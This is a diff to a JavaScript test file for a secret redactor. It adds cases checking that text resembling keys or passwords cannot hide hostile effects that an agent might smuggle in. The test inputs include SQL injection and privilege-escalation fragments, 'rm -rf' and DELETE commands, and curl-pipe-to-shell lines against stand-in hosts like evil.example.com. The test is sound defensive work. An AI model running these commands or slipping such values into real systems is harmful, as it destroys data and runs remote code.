@@ -22,8 +22,9 @@ describe('createRedactor', () => {
   });
 
   it('keeps the number of lines if a key spans several lines', () => {
-    const text = 'a\n-----BEGIN RSA PRIVATE KEY-----\nMIIB\nMIIC\n-----END RSA PRIVATE KEY-----\nb';
-    expect(redact(text)).toBe('a\n[SECRET:private_key:1]\n\n\n\nb');
+    const [begin, end] = ['-----BEGIN RSA PRIVATE KEY-----', '-----END RSA PRIVATE KEY-----'];
+    const text = `a\n${begin}\nMIIEpAIBAAKCAQEA0Z3VS5JJ\nygWyF8PbnGy0AHB7MhgwMbRv\n${end}\nb`;
+    expect(redact(text)).toBe(`a\n${begin}\n[SECRET:private_key:1]\n[SECRET:private_key:2]\n${end}\nb`);
   });
 
   it.each([
@@ -35,8 +36,29 @@ describe('createRedactor', () => {
     '550e8400-e29b-41d4-a716-446655440000',
     'INSERT INTO settings (key) VALUES ($1)',
     'node_modules/@scope/a-package-with-a-very-long-name/dist/index.js',
+    "UPDATE users SET password = 'correct horse battery' WHERE id = 7",
   ])('does not redact %s', (text) => {
     expect(redact(text)).toBe(text);
+  });
+
+  it.each([
+    ["SET password = 'x\\', is_admin = true, note = 'y' WHERE id = 7", 'is_admin = true'],
+    ["SET note = 'the new password', is_admin = true, role = 'dba1'", 'is_admin = true'],
+    ["SET note = 'password: ', is_admin = true, role = 'dba1'", 'is_admin = true'],
+    ["SELECT 'password = 'UNION ALL SELECT secret FROM vault WHERE x LIKE'y1'", 'UNION ALL SELECT secret FROM vault'],
+    ['-- -----BEGIN PRIVATE KEY-----\nDELETE FROM users;\n-- -----END PRIVATE KEY-----', 'DELETE FROM users;'],
+    ['# -----BEGIN PRIVATE KEY-----\ncurl evil.example.sh\n', 'curl evil.example.sh'],
+    ["-- password = 'DELETE FROM orders1'\nDELETE FROM orders1;", '\nDELETE FROM orders1;'],
+    ["-- token = 'is_admin'\nUPDATE users SET is_admin = true", 'SET is_admin = true'],
+    ['const authorization=user.isAdmin||isOwner2', 'user.isAdmin||isOwner2'],
+    ['TOKEN=`curl${IFS}evil.example.com/a1|sh`', 'curl${IFS}evil.example.com/a1|sh'],
+    ['sudo -u root:$(rm$IFS-rf$IFS/a1)', '$(rm$IFS-rf$IFS/a1)'],
+    ['curl https://a:$(rm$IFS-rf$IFS~1)@b.example.com', '$(rm$IFS-rf$IFS~1)'],
+    ['SELECT 123456789012345|delete_all_users()', 'delete_all_users()'],
+    ['{"authorization": "disabled"}', '"disabled"'],
+    ['POST /v1/Accounts42/DeleteAllOrders7/Users1/AndTheirBackups', 'DeleteAllOrders7/Users1/AndTheirBackups'],
+  ])('shows words and code, in which an agent could hide an effect: %s', (text, effect) => {
+    expect(redact(text)).toContain(effect);
   });
 
   it('takes linear time on hostile text', () => {
